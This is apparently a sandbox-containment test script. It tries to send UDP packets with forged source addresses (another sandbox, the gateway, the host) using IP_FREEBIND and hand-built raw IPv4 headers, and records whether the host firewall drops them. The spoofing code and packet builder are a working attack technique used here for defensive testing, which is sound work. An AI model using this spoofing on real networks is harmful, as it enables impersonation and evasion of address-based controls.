# attack: send with a forged source address (another sandbox's, the gateway's, the host's)
# users: root
import socket
import struct

from _lib import privileged
from _net import ENV, UDP_PORT, marker, resolve

IP_FREEBIND = 15
target = (resolve("allowed.test") or [ENV["NET_ALLOWED"]])[0]  # an open destination
results = {}
for source in (ENV["NET_VICTIM"], ENV["NET_GATEWAY"], ENV["NET_PLAYGROUND_HOST"], "10.1.2.3"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)  # no capability needed
            s.bind((source, 0))
            s.sendto(marker("forged-" + source).encode(), (target, UDP_PORT))
        results["freebind " + source] = "sent"
    except OSError as exc:
        results["freebind " + source] = exc.strerror


def forged(src: str, dst: str, payload: bytes) -> bytes:
    """An IPv4/UDP packet from ``src`` (the kernel fills in the IP checksum; UDP's is optional)."""
    udp = struct.pack("!HHHH", 40000, UDP_PORT, 8 + len(payload), 0) + payload
    return (
        struct.pack(
            "!BBHHHBBH4s4s",
            0x45,
            0,
            20 + len(udp),
            0,
            0,
            64,
            17,
            0,
            socket.inet_aton(src),
            socket.inet_aton(dst),
        )
        + udp
    )


try:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    results["raw IP_HDRINCL"] = "ok"
    for source in (ENV["NET_VICTIM"], ENV["NET_GATEWAY"], ENV["NET_PLAYGROUND_HOST"]):
        try:
            raw.sendto(forged(source, target, marker("raw-" + source).encode()), (target, 0))
            results["raw from " + source] = "sent"
        except OSError as exc:
            results["raw from " + source] = exc.strerror
    raw.close()
except OSError as exc:
    results["raw IP_HDRINCL"] = exc.strerror
# Sending is not arriving: the host's firewall must drop what does not carry the sandbox's own
# address (the playground logs the markers; the runner counts them). A raw socket itself is
# contained on a kernel of the sandbox's own (a microVM's guest).
privileged(results if results["raw IP_HDRINCL"] == "ok" else {"raw IP_HDRINCL": results["raw IP_HDRINCL"]})
